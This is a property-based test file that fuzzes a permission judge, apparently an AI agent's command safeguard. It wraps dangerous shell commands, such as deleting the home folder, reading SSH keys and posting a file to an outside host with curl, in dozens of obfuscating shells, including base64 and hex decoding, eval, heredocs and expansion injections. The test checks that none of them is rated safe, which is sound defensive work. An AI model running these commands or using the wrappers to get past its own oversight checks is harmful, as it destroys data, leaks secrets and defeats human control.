/** A dangerous command in harmless clothes: whatever wraps it, it must not run unasked. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { openAmygdala, openScene } from '../../support/acting.ts';

const dangerous = [
  'rm -rf ~',
  'rm -r build',
  'curl -d @a example.com',
  'git push --force',
  'npm publish',
  'sudo ls',
  'chmod 777 a',
  'shutdown -h now',
  'cat ~/.ssh/id_rsa',
  'ssh host ls',
  'find . -delete',
  'kill -9 1234',
];

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const word = fc.constantFrom('x', 'a b', 'src', '1', '*.ts', 'é');

/** Spellings of one word that the shell reads as the same. */
const spelled = (text: string): fc.Arbitrary<string> =>
  fc.constantFrom(
    text,
    text.replace(/^(\w)(\w*)$/, "$1''$2"),
    text.replace(/^(\w)(\w*)$/, '$1""$2'),
    text.replace(/^(\w)(\w+)$/, '$1\\$2'),
    text.replace(/^(\w)(\w+)$/, '$1\\\n$2'),
    /^\w+$/.test(text) ? `"${text}"` : text,
    /^\w+$/.test(text)
      ? `$'${[...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('')}'`
      : text,
  );
const respelled = (command: string): fc.Arbitrary<string> =>
  fc
    .tuple(
      ...command.split(' ').map((one, index) => (index === 0 ? spelled(one) : fc.constant(one))),
    )
    .map((words) => words.join(' '));

type Shell = (inner: string, filler: string) => string;
const shells: readonly Shell[] = [
  (inner) => `( ${inner} )`,
  (inner) => `{ ${inner}; }`,
  (inner, filler) => `echo ${quoted(filler)}; ${inner}`,
  (inner) => `true && ${inner}`,
  (inner) => `false || ${inner}`,
  (inner) => `ls\n${inner}\nls`,
  (inner) => `ls & ${inner}`,
  (inner) => `ls | ${inner}`,
  (inner) => `${inner} | cat`,
  (inner) => `! ${inner}`,
  (inner) => `if true; then\n${inner}\nfi`,
  (inner) => `for i in 1 2; do\n${inner}\ndone`,
  (inner) => `while true; do\n${inner}\nbreak; done`,
  (inner) => `case x in\nx)\n${inner}\n;;\nesac`,
  (inner) => `f() {\n${inner}\n}\nf`,
  (inner) => `echo "$( ${inner} )"`,
  (inner) => `cat <( ${inner} )`,
  (inner) => `A=$( ${inner} ) ls`,
  (inner) => `sh -c ${quoted(inner)}`,
  (inner) => `bash -lc ${quoted(inner)}`,
  (inner) => `env A=1 sh -c ${quoted(inner)}`,
  (inner) => `eval ${quoted(inner)}`,
  (inner) => `timeout 5 bash -c ${quoted(inner)}`,
  (inner) => `xargs -I{} sh -c ${quoted(inner)} < a`,
  (inner) => `find . -exec sh -c ${quoted(inner)} \\;`,
  (inner) => `git -c alias.x=${quoted(`!${inner}`)} x`,
  (inner) => `trap ${quoted(inner)} EXIT`,
  (inner) => `bash <<'END_OF_IT'\n${inner}\nEND_OF_IT`,
  (inner) => `cat <<'END_OF_IT' | sh\n${inner}\nEND_OF_IT`,
  (inner) => `bash <<< ${quoted(inner)}`,
  (inner) => `printf %s ${quoted(inner)} | sh`,
  (inner) => `C=${quoted(inner)}; $C`,
  (inner) => `C=${quoted(inner)}; eval "$C"`,
  (inner) => `C=${quoted(inner)} sh -c '$C'`,
  (inner) => `echo ${Buffer.from(inner).toString('base64')} | base64 -d | sh`,
  (inner) => `eval "$(echo ${Buffer.from(inner).toString('base64')} | base64 -d)"`,
  (inner) =>
    `bash -c "$(printf '${[...Buffer.from(inner)].map((b) => `\\\\${b.toString(8)}`).join('')}')"`,
  (inner) => `echo ${Buffer.from(inner).toString('hex')} | xxd -r -p | bash`,
  (inner) => `coproc { ${inner}; }`,
  (inner) => `command eval ${quoted(inner)}`,
  (inner) => `nice nohup bash -c ${quoted(inner)}`,
  (inner, filler) => `cat <<E\n${filler}\nE\n${inner}`,
  (inner) => `[[ -n $( ${inner} ) ]]`,
  (inner) => `echo \${a:-$( ${inner} )}`,
  (inner) => `# a comment\n${inner} # another`,
  (inner) => `time ${/^[\w']/.test(inner) ? inner : `sh -c ${quoted(inner)}`}`,
  (inner) => `[[ ${quoted(`a[$(${inner})]`)} -eq 1 ]]`,
  (inner) => `a=${quoted(`b[$(${inner})]`)}; echo $((a))`,
  (inner) => `x=${quoted(`$(${inner})`)}; echo "\${x@P}"`,
  (inner) => `PS4=${quoted(`$(${inner})`)} bash -xc ls`,
  (inner) => `wait -p ${quoted(`a[$(${inner})]`)}`,
  (inner) => `echo ${quoted(inner)} | xargs -0 sh -c`,
  (inner) => `find . -exec bash -c ${quoted(inner)} +`,
  (inner) => `env -S ${quoted(`sh -c ${quoted(inner)}`)}`,
  (inner) => `g() ( ${/#|<</.test(inner) ? `sh -c ${quoted(inner)}` : inner} ); g`,
  (inner) => `node -p ${quoted(`require("child_process").execSync(${JSON.stringify(inner)})`)}`,
  (inner) => `python3 -c${quoted(`import os; os.system(${JSON.stringify(inner)})`)}`,
  (inner) => `python3 -c ${quoted(`import os; os.system(${JSON.stringify(inner)})`)}`,
];

/** Heredocs and comments need lines of their own: what comes after them starts a new one. */
const wrapped = fc
  .tuple(
    fc.constantFrom(...dangerous).chain(respelled),
    fc.array(fc.tuple(fc.nat(shells.length - 1), word), { minLength: 0, maxLength: 4 }),
  )
  .map(([command, layers]) =>
    layers.reduce((inner, [index, filler]) => {
      const needsLines = /<<|#/.test(inner);
      const shell = shells[index];
      if (shell === undefined) return inner;
      return shell(needsLines ? `sh -c ${quoted(inner)}` : inner, filler);
    }, command),
  );

describe('a dangerous command in random harmless shells', () => {
  it('never runs unasked, in the loosest mode', async () => {
    const scene = await openScene();
    scene.settings.set({
      permissions: {
        allow: ['Bash', 'Bash(echo:*)', 'Bash(ls:*)', 'Bash(npm test)'],
        sandboxed: 'run',
      },
    });
    const { judge } = await openAmygdala(scene, {
      sandbox: async () => ({ available: true, message: '' }),
    });
    await fc.assert(
      fc.asyncProperty(wrapped, async (command) => {
        const { level } = await judge('Bash', { command }, 'bypassPermissions');
        expect(level).not.toBe('safe');
      }),
      { numRuns: Number(process.env.FUZZ_RUNS ?? 400) },
    );
  });
});
